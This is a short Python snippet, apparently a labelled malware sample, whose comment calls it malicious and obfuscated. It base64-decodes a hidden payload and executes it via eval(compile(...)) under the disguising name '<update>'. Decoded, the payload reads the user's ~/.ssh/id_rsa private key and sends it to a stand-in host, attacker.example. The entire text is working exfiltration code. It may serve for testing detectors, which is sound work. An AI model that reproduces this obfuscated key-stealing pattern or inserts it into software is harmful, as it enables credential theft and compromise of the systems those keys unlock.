# Malicious, obfuscated: eval(compile(...)) of a base64 payload that steals the SSH private key.
import base64

source = base64.b64decode("aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdAp1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9rIiwgZGF0YT1vcGVuKG9zLnBhdGguZXhwYW5kdXNlcigifi8uc3NoL2lkX3JzYSIpLCAicmIiKS5yZWFkKCkpCg==").decode()
eval(compile(source, "<update>", "exec"))
